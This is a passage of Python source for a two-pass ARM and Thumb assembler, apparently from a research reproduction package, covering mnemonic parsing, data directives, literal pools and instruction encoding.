assembler turns their assembly sources into the machine words the CPU
decoders consume, exactly as a cross-compiler toolchain would for the
paper's test APKs.

Supported syntax (one statement per line, ``;``/``@``/``//`` comments):

* labels (``name:``), ``.arm``/``.thumb`` mode switches
* data directives: ``.word``, ``.half``, ``.byte``, ``.asciz``, ``.space``,
  ``.align``, ``.pool`` (flush the literal pool)
* ARM: all data-processing ops with immediate/shifted-register operand2,
  ``movw/movt``, ``mul/mla/umull/smull/umlal/smlal``, ``clz``,
  ``ldr/str[b|h|sb|sh]`` with immediate/register offsets and pre/post
  indexing, ``ldm/stm`` variants and ``push/pop``, ``b/bl`` (+conditions),
  ``bx/blx``, ``svc``, ``nop``
* Thumb: the classic 16-bit subset (format 1-18) plus the fused ``bl`` pair
* pseudo-ops: ``ldr rd, =value_or_label`` (literal pool), ``adr rd, label``

Condition suffixes (``beq``, ``movne``…) and the ``s`` flag suffix
(``adds``) are accepted in either order (``addseq``/``addeqs``).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.common.errors import AssemblerError
from repro.cpu.bits import encode_arm_immediate, u32
from repro.cpu.isa import Cond, Op, ShiftType

_REGISTER_ALIASES = {
    "sp": 13, "lr": 14, "pc": 15, "ip": 12, "fp": 11, "sl": 10,
}
_CONDS = {c.name.lower(): c for c in Cond}
_DP_OPS = {
    "and": Op.AND, "eor": Op.EOR, "sub": Op.SUB, "rsb": Op.RSB,
    "add": Op.ADD, "adc": Op.ADC, "sbc": Op.SBC, "rsc": Op.RSC,
    "tst": Op.TST, "teq": Op.TEQ, "cmp": Op.CMP, "cmn": Op.CMN,
    "orr": Op.ORR, "mov": Op.MOV, "bic": Op.BIC, "mvn": Op.MVN,
}
_SHIFT_NAMES = {"lsl": ShiftType.LSL, "lsr": ShiftType.LSR,
                "asr": ShiftType.ASR, "ror": ShiftType.ROR}

# Base mnemonics, longest first so suffix stripping is unambiguous.
_BASES = sorted(
    list(_DP_OPS) + list(_SHIFT_NAMES) + [
        "ldrsb", "ldrsh", "ldrb", "ldrh", "strb", "strh", "ldr", "str",
        "ldmia", "ldmib", "ldmda", "ldmdb", "stmia", "stmib", "stmda",
        "stmdb", "ldm", "stm", "push", "pop",
        "movw", "movt", "mul", "mla", "umull", "smull", "umlal", "smlal",
        "clz", "blx", "bx", "bl", "b", "svc", "swi", "nop", "adr", "neg",
    ],
    key=len, reverse=True)


@dataclass
class _Statement:
    """One parsed source line, sized in pass 1 and encoded in pass 2."""

    kind: str                     # "insn", "word", "bytes", "align", "pool"
    mnemonic: str = ""
    cond: Cond = Cond.AL
    set_flags: bool = False
    operands: str = ""
    data: bytes = b""
    align: int = 0
    address: int = 0
    size: int = 0
    thumb: bool = False
    line: str = ""
    lineno: int = 0
    pool_symbol: Optional[str] = None   # for "ldr rd, =x"


@dataclass
class Program:
    """Assembled output: bytes plus the symbol table."""

    base: int
    code: bytes
    symbols: Dict[str, int] = field(default_factory=dict)
    thumb_symbols: Dict[str, bool] = field(default_factory=dict)

    def address_of(self, symbol: str) -> int:
        if symbol not in self.symbols:
            raise AssemblerError(f"unknown symbol {symbol!r}")
        return self.symbols[symbol]

    def entry(self, symbol: str) -> int:
        """Address of a symbol with the Thumb bit set when appropriate."""
        address = self.address_of(symbol)
        if self.thumb_symbols.get(symbol):
            address |= 1
        return address


def assemble(source: str, base: int = 0,
             externs: Optional[Dict[str, int]] = None) -> Program:
    """Assemble ``source`` at ``base``; ``externs`` adds outside symbols."""
    return Assembler(externs=externs).assemble(source, base)


class Assembler:
    """Two-pass assembler; see the module docstring for the syntax."""
    def __init__(self, externs: Optional[Dict[str, int]] = None) -> None:
        self.externs = dict(externs or {})

    # -- top level ---------------------------------------------------------

    def assemble(self, source: str, base: int = 0) -> Program:
        statements, labels, thumb_labels, pool = self._pass1(source, base)
        symbols = dict(self.externs)
        symbols.update(labels)
        code = bytearray()
        end = base
        for statement in statements:
            encoded = self._encode(statement, symbols, pool)
            expected = statement.address - base
            if len(code) < expected:
                code.extend(b"\x00" * (expected - len(code)))
            code.extend(encoded)
            end = max(end, statement.address + len(encoded))
        return Program(base=base, code=bytes(code), symbols=labels,
                       thumb_symbols=thumb_labels)

    # -- pass 1: sizing and label resolution ---------------------------------

    def _pass1(self, source: str, base: int):
        statements: List[_Statement] = []
        labels: Dict[str, int] = {}
        thumb_labels: Dict[str, bool] = {}
        pool: Dict[str, int] = {}          # literal symbol -> address
        pool_pending: List[Tuple[str, _Statement]] = []
        address = base
        thumb = False

        def flush_pool() -> None:
            nonlocal address
            seen: Dict[str, int] = {}
            for symbol, __ in pool_pending:
                if symbol in seen:
                    pool[symbol] = seen[symbol]
                    continue
                address = (address + 3) & ~3
                statement = _Statement(kind="word", operands=symbol[4:],
                                       address=address, size=4)
                statements.append(statement)
                pool[symbol] = address
                seen[symbol] = address
                address += 4
            pool_pending.clear()

        for lineno, raw in enumerate(source.splitlines(), start=1):
            line = _strip_comment(raw).strip()
            if not line:
                continue
            while True:
                match = re.match(r"^([A-Za-z_.$][\w.$]*):\s*", line)
                if not match:
                    break
                label = match.group(1)
                if label in labels:
                    raise AssemblerError(f"line {lineno}: duplicate label {label!r}")
                labels[label] = address
                thumb_labels[label] = thumb
                line = line[match.end():]
            if not line:
                continue

            if line.startswith("."):
                directive, _, rest = line.partition(" ")
                rest = rest.strip()
                if directive == ".arm":
                    address = (address + 3) & ~3
                    thumb = False
                    continue
                if directive == ".thumb":
                    address = (address + 1) & ~1
                    thumb = True
                    continue
                if directive in (".pool", ".ltorg"):
                    flush_pool()
                    continue
                if directive in (".global", ".globl", ".text", ".data",
                                 ".func", ".endfunc"):
                    continue
                statement = self._parse_directive(directive, rest, lineno)
                if statement.kind == "align":
                    alignment = statement.align
                    address = (address + alignment - 1) & ~(alignment - 1)
                    continue
                statement.address = address
                statement.thumb = thumb
                statements.append(statement)
                address += statement.size
                continue

            statement = self._parse_instruction(line, lineno, thumb)
            statement.address = address
            if statement.pool_symbol is not None:
                pool_pending.append((statement.pool_symbol, statement))
            statements.append(statement)
            address += statement.size

        flush_pool()
        return statements, labels, thumb_labels, pool

    def _parse_directive(self, directive: str, rest: str,
                         lineno: int) -> _Statement:
        if directive == ".word":
            values = [part.strip() for part in rest.split(",") if part.strip()]
            return _Statement(kind="words", operands=",".join(values),
                              size=4 * len(values), lineno=lineno)
        if directive in (".half", ".hword", ".short"):
            values = [part.strip() for part in rest.split(",") if part.strip()]
            return _Statement(kind="halves", operands=",".join(values),
                              size=2 * len(values), lineno=lineno)
        if directive == ".byte":
            values = [part.strip() for part in rest.split(",") if part.strip()]
            return _Statement(kind="bytes8", operands=",".join(values),
                              size=len(values), lineno=lineno)
        if directive in (".asciz", ".string"):
            text = _parse_string_literal(rest, lineno)
            data = text.encode("utf-8") + b"\x00"
            return _Statement(kind="bytes", data=data, size=len(data),
                              lineno=lineno)
        if directive == ".ascii":
            text = _parse_string_literal(rest, lineno)
            data = text.encode("utf-8")
            return _Statement(kind="bytes", data=data, size=len(data),
                              lineno=lineno)
        if directive in (".space", ".skip", ".zero"):
            count = _parse_int(rest, lineno)
            return _Statement(kind="bytes", data=b"\x00" * count, size=count,
                              lineno=lineno)
        if directive in (".align", ".balign"):
            alignment = _parse_int(rest or "4", lineno)
            if directive == ".align":
                alignment = 1 << alignment if alignment < 16 else alignment
            return _Statement(kind="align", align=alignment, lineno=lineno)
        raise AssemblerError(f"line {lineno}: unknown directive {directive!r}")

    def _parse_instruction(self, line: str, lineno: int,
                           thumb: bool) -> _Statement:
        match = re.match(r"^(\S+)\s*(.*)$", line)
        word, operands = match.group(1).lower(), match.group(2).strip()
        base, cond, set_flags = _split_mnemonic(word, lineno)
        statement = _Statement(kind="insn", mnemonic=base, cond=cond,
                               set_flags=set_flags, operands=operands,
                               thumb=thumb, line=line, lineno=lineno)
        # Pseudo: ldr rd, =imm_or_label → pc-relative load from the pool.
        if base == "ldr" and "=" in operands:
            rd_text, _, value = operands.partition(",")
            value = value.strip()
            if not value.startswith("="):
                raise AssemblerError(f"line {lineno}: bad ldr= syntax")
            statement.pool_symbol = "lit:" + value[1:].strip()
            statement.operands = rd_text.strip()
        statement.size = 2 if thumb else 4
        if thumb and base == "bl":
            statement.size = 4
        # ARM MOV with an unencodable literal immediate auto-expands to
        # MOVW (16-bit values) or a MOVW/MOVT pair (wider values), exactly
        # as GNU as does for "mov rd, #imm" on ARMv7.
        if not thumb and base == "mov" and not set_flags:
            ops = _split_operands(operands)
            if len(ops) == 2 and ops[1].startswith("#"):
                try:
                    value = _parse_int(ops[1][1:], lineno) & 0xFFFF_FFFF
                except AssemblerError:
                    value = None
                if value is not None:
                    if not _arm_immediate_encodable(value) and \
                            not _arm_immediate_encodable(~value & 0xFFFF_FFFF):
                        statement.mnemonic = "mov32"
                        statement.size = 4 if value <= 0xFFFF else 8
        return statement

    # -- pass 2: encoding -------------------------------------------------------

    def _encode(self, statement: _Statement, symbols: Dict[str, int],
                pool: Dict[str, int]) -> bytes:
        if statement.kind == "bytes":
            return statement.data
        if statement.kind == "word":
            value = self._resolve(statement.operands, symbols,
                                  statement.lineno)
            return u32(value).to_bytes(4, "little")
        if statement.kind == "words":
            out = bytearray()
            for part in statement.operands.split(","):
                value = self._resolve(part, symbols, statement.lineno)
                out += u32(value).to_bytes(4, "little")
            return bytes(out)
        if statement.kind == "halves":
            out = bytearray()
            for part in statement.operands.split(","):
                value = self._resolve(part, symbols, statement.lineno)
                out += (value & 0xFFFF).to_bytes(2, "little")
            return bytes(out)
        if statement.kind == "bytes8":
            return bytes(
                self._resolve(part, symbols, statement.lineno) & 0xFF
                for part in statement.operands.split(","))
        if statement.kind == "insn":
            if statement.mnemonic == "mov32":
                return self._encode_mov32(statement)
            if statement.thumb:
                encoded = self._encode_thumb(statement, symbols, pool)
            else:
                encoded = self._encode_arm(statement, symbols, pool)
            return encoded
        raise AssemblerError(f"line {statement.lineno}: bad statement")

    def _resolve(self, text: str, symbols: Dict[str, int], lineno: int) -> int:
        text = text.strip()
        try:
            return _parse_int(text, lineno)
        except AssemblerError:
            pass
        # Simple symbol+offset arithmetic: name, name+4, name-8.
        match = re.match(r"^([A-Za-z_.$][\w.$]*)\s*([+-]\s*\d+)?$", text)
        if match and match.group(1) in symbols:
            offset = int(match.group(2).replace(" ", "")) if match.group(2) else 0
            return symbols[match.group(1)] + offset
        raise AssemblerError(f"line {lineno}: cannot resolve {text!r}")

    def _encode_mov32(self, st: _Statement) -> bytes:
        """Encode the auto-expanded MOVW(/MOVT) form of ``mov rd, #imm``."""
        ops = _split_operands(st.operands)
        rd = _parse_reg(ops[0], st.lineno)
        value = _parse_int(ops[1][1:], st.lineno) & 0xFFFF_FFFF
        cond = int(st.cond) << 28
        low = value & 0xFFFF
        movw = cond | 0x03000000 | ((low >> 12) << 16) | (rd << 12) | \
            (low & 0xFFF)
        out = u32(movw).to_bytes(4, "little")
        if st.size == 8:
            high = value >> 16
            movt = cond | 0x03400000 | ((high >> 12) << 16) | (rd << 12) | \
                (high & 0xFFF)
            out += u32(movt).to_bytes(4, "little")
        return out

    # -- ARM encoding ----------------------------------------------------------

    def _encode_arm(self, st: _Statement, symbols: Dict[str, int],
                    pool: Dict[str, int]) -> bytes:
        word = self._arm_word(st, symbols, pool)
        return u32(word).to_bytes(4, "little")

    def _arm_word(self, st: _Statement, symbols: Dict[str, int],
                  pool: Dict[str, int]) -> int:
        cond = int(st.cond) << 28
        name = st.mnemonic
        ops = _split_operands(st.operands)
        lineno = st.lineno

        if name == "nop":
            return cond | 0x01A00000  # mov r0, r0

        if name == "mov32":
            raise AssemblerError(
                f"line {lineno}: mov32 must be encoded via _encode")

        if name in _DP_OPS:
            return cond | self._arm_data_processing(st, ops)

        if name in _SHIFT_NAMES:  # lsl rd, rm, #imm|rs → mov with shift
            if len(ops) == 2:
                ops = [ops[0], ops[0], ops[1]]
            rd = _parse_reg(ops[0], lineno)
            rm = _parse_reg(ops[1], lineno)
            shift = ops[2]
            s_bit = (1 << 20) if st.set_flags else 0
            base = 0x01A00000 | s_bit | (rd << 12)
            if shift.startswith("#"):
                amount = _parse_int(shift[1:], lineno)
                return cond | base | ((amount & 31) << 7) | \
                    (int(_SHIFT_NAMES[name]) << 5) | rm
            rs = _parse_reg(shift, lineno)
            return cond | base | (rs << 8) | \
                (int(_SHIFT_NAMES[name]) << 5) | 0x10 | rm

        if name == "neg":  # rsb rd, rm, #0
            rd = _parse_reg(ops[0], lineno)
            rm = _parse_reg(ops[1], lineno) if len(ops) > 1 else rd
            s_bit = (1 << 20) if st.set_flags else 0
            return cond | 0x02600000 | s_bit | (rm << 16) | (rd << 12)

        if name in ("movw", "movt"):
            rd = _parse_reg(ops[0], lineno)
            imm = self._resolve(ops[1].lstrip("#"), symbols, lineno) & 0xFFFF
            opcode = 0x03400000 if name == "movt" else 0x03000000
            return cond | opcode | ((imm >> 12) << 16) | (rd << 12) | \
                (imm & 0xFFF)

        if name == "mul":
            rd, rm, rs = (_parse_reg(op, lineno) for op in ops[:3])
            s_bit = (1 << 20) if st.set_flags else 0
            return cond | s_bit | (rd << 16) | (rs << 8) | 0x90 | rm
        if name == "mla":
            rd, rm, rs, rn = (_parse_reg(op, lineno) for op in ops[:4])
            s_bit = (1 << 20) if st.set_flags else 0
            return cond | 0x00200000 | s_bit | (rd << 16) | (rn << 12) | \
                (rs << 8) | 0x90 | rm
        if name in ("umull", "smull", "umlal", "smlal"):
            rd_lo, rd_hi, rm, rs = (_parse_reg(op, lineno) for op in ops[:4])
            signed = (1 << 22) if name.startswith("s") else 0
            accumulate = (1 << 21) if name.endswith("lal") else 0
            s_bit = (1 << 20) if st.set_flags else 0
            return cond | 0x00800000 | signed | accumulate | s_bit | \
                (rd_hi << 16) | (rd_lo << 12) | (rs << 8) | 0x90 | rm

        if name == "clz":
            rd = _parse_reg(ops[0], lineno)
            rm = _parse_reg(ops[1], lineno)
            return cond | 0x016F0F10 | (rd << 12) | rm

        if name in ("ldr", "str", "ldrb", "strb", "ldrh", "strh",
                    "ldrsb", "ldrsh"):
            return cond | self._arm_load_store(st, ops, symbols, pool)

        if name in ("push", "pop"):
            reglist = _parse_reglist(st.operands, lineno)
            if name == "push":  # STMDB sp!, {...}
                return cond | 0x092D0000 | reglist
            return cond | 0x08BD0000 | reglist  # LDMIA sp!, {...}

        if name in ("ldm", "stm", "ldmia", "ldmib", "ldmda", "ldmdb",
                    "stmia", "stmib", "stmda", "stmdb"):
            mode = name[3:] or "ia"
            load = name.startswith("ldm")
            base_text = ops[0]
            writeback = base_text.endswith("!")
            rn = _parse_reg(base_text.rstrip("!"), lineno)
            reglist = _parse_reglist(st.operands.partition(",")[2], lineno)
            p = 1 if mode in ("ib", "db") else 0
            u = 1 if mode in ("ia", "ib") else 0
            word = 0x08000000 | (p << 24) | (u << 23) | \
                ((1 if writeback else 0) << 21) | \
                ((1 if load else 0) << 20) | (rn << 16) | reglist
            return cond | word

        if name in ("b", "bl"):
            target = self._resolve(ops[0], symbols, lineno)
            offset = (target - (st.address + 8)) >> 2
            if not -(1 << 23) <= offset < (1 << 23):
                raise AssemblerError(f"line {lineno}: branch out of range")
            link = (1 << 24) if name == "bl" else 0
            return cond | 0x0A000000 | link | (offset & 0xFFFFFF)

        if name in ("bx", "blx"):
            rm = _parse_reg(ops[0], lineno)
            low = 0x30 if name == "blx" else 0x10
            return cond | 0x012FFF00 | low | rm

        if name in ("svc", "swi"):
            imm = _parse_int(ops[0].lstrip("#"), lineno)
            return cond | 0x0F000000 | (imm & 0xFFFFFF)

        if name == "adr":
            rd = _parse_reg(ops[0], lineno)
            target = self._resolve(ops[1], symbols, lineno)
            delta = target - (st.address + 8)
            try:
                if delta >= 0:
                    rotate, imm8 = encode_arm_immediate(delta)
                    return cond | 0x028F0000 | (rd << 12) | (rotate << 8) | imm8
                rotate, imm8 = encode_arm_immediate(-delta)
                return cond | 0x024F0000 | (rd << 12) | (rotate << 8) | imm8
            except ValueError:
                raise AssemblerError(
                    f"line {lineno}: adr target too far") from None

        raise AssemblerError(f"line {lineno}: unknown mnemonic {name!r}")

    def _arm_data_processing(self, st: _Statement, ops: List[str]) -> int:
        lineno = st.lineno
        op = _DP_OPS[st.mnemonic]
        compare = op in (Op.TST, Op.TEQ, Op.CMP, Op.CMN)
        unary = op in (Op.MOV, Op.MVN)
        set_flags = st.set_flags or compare

        if compare:
            rd, rn = 0, _parse_reg(ops[0], lineno)
            operand2_ops = ops[1:]
        elif unary:
            rd, rn = _parse_reg(ops[0], lineno), 0
            operand2_ops = ops[1:]
        else:
            rd = _parse_reg(ops[0], lineno)
            if len(ops) == 2:  # two-operand form: add r0, r1 == add r0,r0,r1
                rn = rd
                operand2_ops = ops[1:]
            else:
                rn = _parse_reg(ops[1], lineno)
                operand2_ops = ops[2:]

        word = (int(op) << 21) | ((1 if set_flags else 0) << 20) | \
            (rn << 16) | (rd << 12)

        first = operand2_ops[0]
        if first.startswith("#"):
            value = _parse_int(first[1:], lineno)
            try:
                rotate, imm8 = encode_arm_immediate(value)
            except ValueError:
                # Try the complementary opcode (MOV<->MVN, ADD<->SUB, ...).
                flipped = _flip_for_immediate(op, value)
                if flipped is None:
                    raise AssemblerError(
                        f"line {lineno}: immediate 0x{value & 0xFFFFFFFF:x} "
                        "not encodable; use ldr rd, =imm") from None
                new_op, new_value = flipped
                rotate, imm8 = encode_arm_immediate(new_value)
                word = (word & ~(0xF << 21)) | (int(new_op) << 21)
            return word | (1 << 25) | (rotate << 8) | imm8

        rm = _parse_reg(first, lineno)
        if len(operand2_ops) == 1:
            return word | rm
        shift_text = operand2_ops[1].lower()
        if shift_text == "rrx":
            return word | (int(ShiftType.ROR) << 5) | rm
        parts = shift_text.split()
        if len(parts) != 2 or parts[0] not in _SHIFT_NAMES:
            raise AssemblerError(f"line {lineno}: bad shift {shift_text!r}")
        shift_type = _SHIFT_NAMES[parts[0]]
        if parts[1].startswith("#"):
            amount = _parse_int(parts[1][1:], lineno)
            return word | ((amount & 31) << 7) | (int(shift_type) << 5) | rm
        rs = _parse_reg(parts[1], lineno)
        return word | (rs << 8) | (int(shift_type) << 5) | 0x10 | rm

    def _arm_load_store(self, st: _Statement, ops: List[str],
                        symbols: Dict[str, int], pool: Dict[str, int]) -> int:
        lineno = st.lineno
        name = st.mnemonic
        load = name.startswith("ldr")
        suffix = name[3:]
        rd = _parse_reg(ops[0], lineno)

        if st.pool_symbol is not None:  # ldr rd, =value
            pool_address = pool[st.pool_symbol]
            delta = pool_address - (st.address + 8)
            u_bit = 1 if delta >= 0 else 0
            return 0x05100000 | (u_bit << 23) | (15 << 16) | (rd << 12) | \
                (abs(delta) & 0xFFF)

        address_text = st.operands.partition(",")[2].strip()
        pre, rn, offset_text, writeback, post_offset = _parse_address(
            address_text, lineno)

        if suffix in ("h", "sb", "sh"):
            sh = {"h": 0b01 if not load else 0b01, "sb": 0b10, "sh": 0b11}[suffix]
            if not load:
                sh = 0b01
            word = 0x00000090 | (sh << 5) | ((1 if load else 0) << 20) | \
                (rn << 16) | (rd << 12)
            offset = offset_text if pre else post_offset
            word |= (1 if pre else 0) << 24
            if pre and writeback:
                word |= 1 << 21
            if offset is None or offset == "":
                return word | (1 << 23) | (1 << 22)
            if offset.startswith("#"):
                value = _parse_int(offset[1:], lineno)
                u_bit = 1 if value >= 0 else 0
                value = abs(value)
                return word | (u_bit << 23) | (1 << 22) | \
                    ((value >> 4) << 8) | (value & 0xF)
            sign = 1
            if offset.startswith("-"):
                sign, offset = 0, offset[1:]
            rm = _parse_reg(offset, lineno)
            return word | (sign << 23) | rm

        byte = suffix == "b"
        word = 0x04000000 | ((1 if load else 0) << 20) | \
            ((1 if byte else 0) << 22) | (rn << 16) | (rd << 12)
        word |= (1 if pre else 0) << 24
        if pre and writeback:
            word |= 1 << 21
        offset = offset_text if pre else post_offset
        if offset is None or offset == "":
            return word | (1 << 23)
        if offset.startswith("#"):
            value = _parse_int(offset[1:], lineno)
            u_bit = 1 if value >= 0 else 0
            return word | (u_bit << 23) | (abs(value) & 0xFFF)
        sign = 1
        if offset.startswith("-"):
            sign, offset = 0, offset[1:]
        parts = offset.split(None, 2)
        rm = _parse_reg(parts[0].rstrip(","), lineno)
        word |= (1 << 25) | (sign << 23) | rm
        if len(parts) >= 2:
            shift_name = parts[1].rstrip(",")
            if shift_name not in _SHIFT_NAMES or len(parts) < 3:
                raise AssemblerError(f"line {lineno}: bad index shift")
            amount = _parse_int(parts[2].lstrip("#"), lineno)
            word |= ((amount & 31) << 7) | (int(_SHIFT_NAMES[shift_name]) << 5)
        return word

    # -- Thumb encoding -----------------------------------------------------------

    def _encode_thumb(self, st: _Statement, symbols: Dict[str, int],
                      pool: Dict[str, int]) -> bytes:
        lineno = st.lineno
        name = st.mnemonic
        ops = _split_operands(st.operands)
        if st.cond != Cond.AL and name != "b":
            raise AssemblerError(
                f"line {lineno}: Thumb-1 supports conditions only on b")

        def enc16(halfword: int) -> bytes:
            return (halfword & 0xFFFF).to_bytes(2, "little")

        if name == "nop":
            return enc16(0xBF00)

        if name == "bl":
            target = self._resolve(ops[0], symbols, lineno)
            offset = target - (st.address + 4)
            high = (offset >> 12) & 0x7FF
            low = (offset >> 1) & 0x7FF
            return enc16(0xF000 | high) + enc16(0xF800 | low)

        if name == "b":
            target = self._resolve(ops[0], symbols, lineno)
            offset = target - (st.address + 4)
            if st.cond == Cond.AL:
                if not -2048 <= offset < 2048:
                    raise AssemblerError(f"line {lineno}: branch out of range")
                return enc16(0xE000 | ((offset >> 1) & 0x7FF))
            if not -256 <= offset < 256:
                raise AssemblerError(f"line {lineno}: cond branch out of range")
            return enc16(0xD000 | (int(st.cond) << 8) | ((offset >> 1) & 0xFF))

        if name in ("bx", "blx"):
            rm = _parse_reg(ops[0], lineno)
            h2 = 0x80 if name == "blx" else 0
            return enc16(0x4700 | h2 | (rm << 3))

        if name in ("svc", "swi"):
            return enc16(0xDF00 | (_parse_int(ops[0].lstrip("#"), lineno) & 0xFF))

        if name in ("lsl", "lsr", "asr") and len(ops) == 3 and \
                ops[2].startswith("#"):
            rd = _parse_reg(ops[0], lineno)
            rm = _parse_reg(ops[1], lineno)
            imm5 = _parse_int(ops[2][1:], lineno) & 31
            op_bits = {"lsl": 0, "lsr": 1, "asr": 2}[name]
            return enc16((op_bits << 11) | (imm5 << 6) | (rm << 3) | rd)

        if name in ("push", "pop"):
            registers = _parse_reglist(st.operands, lineno)
            low = registers & 0xFF
            if name == "push":
                extra = 0x100 if registers & (1 << 14) else 0
                if registers & ~(0xFF | (1 << 14)):
                    raise AssemblerError(f"line {lineno}: bad PUSH registers")
                return enc16(0xB400 | extra | low)
            extra = 0x100 if registers & (1 << 15) else 0
            if registers & ~(0xFF | (1 << 15)):
                raise AssemblerError(f"line {lineno}: bad POP registers")
            return enc16(0xBC00 | extra | low)

        if name in ("ldmia", "stmia", "ldm", "stm"):
            rn = _parse_reg(ops[0].rstrip("!"), lineno)
            registers = _parse_reglist(st.operands.partition(",")[2], lineno)
            load = 0x0800 if name.startswith("ldm") else 0
            return enc16(0xC000 | load | (rn << 8) | (registers & 0xFF))

        if name == "ldr" and st.pool_symbol is not None:
            rd = _parse_reg(st.operands, lineno)
            pool_address = pool[st.pool_symbol]
            base = (st.address + 4) & ~3
            delta = pool_address - base
            if delta < 0 or delta > 1020 or delta % 4:
                raise AssemblerError(f"line {lineno}: literal out of range")
            return enc16(0x4800 | (rd << 8) | (delta >> 2))

        if name in ("ldr", "str", "ldrb", "strb", "ldrh", "strh",
                    "ldrsb", "ldrsh"):
            return enc16(self._thumb_load_store(st, ops, lineno))

        if name in ("add", "sub") and ops and \
                _parse_reg_or_none(ops[0]) == 13 and \
                ops[-1].startswith("#"):
            # add/sub sp, #imm or add/sub sp, sp, #imm.
            imm = _parse_int(ops[-1][1:], lineno)
            s_bit = 0x80 if name == "sub" else 0
            return enc16(0xB000 | s_bit | ((imm >> 2) & 0x7F))

        if name in _DP_OPS or name in ("lsl", "lsr", "asr", "ror", "neg",
                                       "mul"):
            return enc16(self._thumb_alu(st, ops, lineno))

        raise AssemblerError(f"line {lineno}: unknown Thumb mnemonic {name!r}")

    def _thumb_load_store(self, st: _Statement, ops: List[str],
                          lineno: int) -> int:
        name = st.mnemonic
        rd = _parse_reg(ops[0], lineno)
        address_text = st.operands.partition(",")[2].strip()
        pre, rn, offset_text, writeback, __ = _parse_address(address_text,
                                                             lineno)
        if not pre or writeback:
            raise AssemblerError(f"line {lineno}: Thumb has no writeback forms")
        load = name.startswith("ldr")
        if offset_text and not offset_text.startswith("#"):
            rm = _parse_reg(offset_text, lineno)
            selector = {"str": 0b000, "strh": 0b001, "strb": 0b010,
                        "ldrsb": 0b011, "ldr": 0b100, "ldrh": 0b101,
                        "ldrb": 0b110, "ldrsh": 0b111}[name]
            return 0x5000 | (selector << 9) | (rm << 6) | (rn << 3) | rd
        offset = _parse_int(offset_text[1:], lineno) if offset_text else 0
        if rn == 13:
            if name not in ("ldr", "str"):
                raise AssemblerError(f"line {lineno}: only word SP-relative")
            return 0x9000 | ((0x800 if load else 0)) | (rd << 8) | \
                ((offset >> 2) & 0xFF)
        if name in ("ldr", "str"):
            return 0x6000 | ((0x800 if load else 0)) | \
                (((offset >> 2) & 31) << 6) | (rn << 3) | rd
        if name in ("ldrb", "strb"):
            return 0x7000 | ((0x800 if load else 0)) | \
                ((offset & 31) << 6) | (rn << 3) | rd
        if name in ("ldrh", "strh"):
            return 0x8000 | ((0x800 if load else 0)) | \
                (((offset >> 1) & 31) << 6) | (rn << 3) | rd
        raise AssemblerError(f"line {lineno}: unsupported Thumb load/store")

    def _thumb_alu(self, st: _Statement, ops: List[str], lineno: int) -> int:
        name = st.mnemonic
        alu_codes = {"and": 0, "eor": 1, "lsl": 2, "lsr": 3, "asr": 4,
                     "adc": 5, "sbc": 6, "ror": 7, "tst": 8, "neg": 9,
                     "cmp": 10, "cmn": 11, "orr": 12, "mul": 13, "bic": 14,
                     "mvn": 15}
        rd = _parse_reg(ops[0], lineno)

        if name in ("mov", "cmp", "add", "sub") and len(ops) == 2 and \
                ops[1].startswith("#"):
            imm = _parse_int(ops[1][1:], lineno)
            if 0 <= imm <= 255 and rd < 8:
                op_bits = {"mov": 0, "cmp": 1, "add": 2, "sub": 3}[name]
                return 0x2000 | (op_bits << 11) | (rd << 8) | (imm & 0xFF)
            raise AssemblerError(f"line {lineno}: Thumb imm8 out of range")

        if name in ("add", "sub") and len(ops) == 3:
            rn = _parse_reg(ops[1], lineno)
            third = ops[2]
            sub = 1 if name == "sub" else 0
            if third.startswith("#"):
                imm3 = _parse_int(third[1:], lineno)
                if not 0 <= imm3 <= 7:
                    raise AssemblerError(f"line {lineno}: imm3 out of range")
                return 0x1C00 | (sub << 9) | (imm3 << 6) | (rn << 3) | rd
            rm = _parse_reg(third, lineno)
            return 0x1800 | (sub << 9) | (rm << 6) | (rn << 3) | rd

        if name in ("mov", "add", "cmp") and len(ops) == 2 and \
                (rd > 7 or _parse_reg(ops[1], lineno) > 7):
            rm = _parse_reg(ops[1], lineno)
            op_bits = {"add": 0, "cmp": 1, "mov": 2}[name]
            h1 = 0x80 if rd > 7 else 0
            return 0x4400 | (op_bits << 8) | h1 | (rm << 3) | (rd & 7)

        if name == "mov" and len(ops) == 2:  # low-reg MOV == LSLS rd, rm, #0
            rm = _parse_reg(ops[1], lineno)
            return (rm << 3) | rd

        if name in alu_codes and len(ops) == 2:
            rm = _parse_reg(ops[1], lineno)
            return 0x4000 | (alu_codes[name] << 6) | (rm << 3) | rd

        if name == "mul" and len(ops) == 3:
            rm = _parse_reg(ops[2], lineno)
            if _parse_reg(ops[1], lineno) != rd:
                raise AssemblerError(f"line {lineno}: Thumb MUL needs rd==rn")
            return 0x4000 | (13 << 6) | (rm << 3) | rd

        raise AssemblerError(f"line {lineno}: unsupported Thumb ALU form")


# -- parsing helpers ------------------------------------------------------------


def _arm_immediate_encodable(value: int) -> bool:
    try:
        encode_arm_immediate(value)
        return True
    except ValueError:
        return False


def _parse_string_literal(text: str, lineno: int) -> str:
    text = text.strip()
    if len(text) < 2 or not (text.startswith('"') and text.endswith('"')):
        raise AssemblerError(f"line {lineno}: expected string literal")
    body = text[1:-1]
    return (body.replace("\\n", "\n").replace("\\t", "\t")
            .replace("\\0", "\x00").replace('\\"', '"')
            .replace("\\\\", "\\"))


def _strip_comment(line: str) -> str:
    for marker in (";", "@", "//"):
        index = _find_outside_quotes(line, marker)
        if index >= 0:
            line = line[:index]
    return line


def _find_outside_quotes(line: str, marker: str) -> int:
    in_quotes = False
    for index in range(len(line) - len(marker) + 1):
        char = line[index]
        if char == '"':
            in_quotes = not in_quotes
        if not in_quotes and line.startswith(marker, index):
            return index
    return -1


def _split_mnemonic(word: str, lineno: int) -> Tuple[str, Cond, bool]:
    for base in _BASES:
        if not word.startswith(base):
            continue
        suffix = word[len(base):]
        if suffix == "":
            return base, Cond.AL, False
        if suffix == "s":
            return base, Cond.AL, True
        if suffix in _CONDS:
            return base, _CONDS[suffix], False
        if suffix.endswith("s") and suffix[:-1] in _CONDS:
            return base, _CONDS[suffix[:-1]], True
        if suffix.startswith("s") and suffix[1:] in _CONDS:
            return base, _CONDS[suffix[1:]], True
    raise AssemblerError(f"line {lineno}: unknown mnemonic {word!r}")


def _split_operands(text: str) -> List[str]:
    """Split on commas, keeping bracketed addresses and reglists intact."""
    parts: List[str] = []
    depth = 0
    current = ""
    for char in text:
        if char in "[{":
            depth += 1
        elif char in "]}":
            depth -= 1
        if char == "," and depth == 0:
            parts.append(current.strip())
            current = ""
        else:
            current += char
    if current.strip():
        parts.append(current.strip())
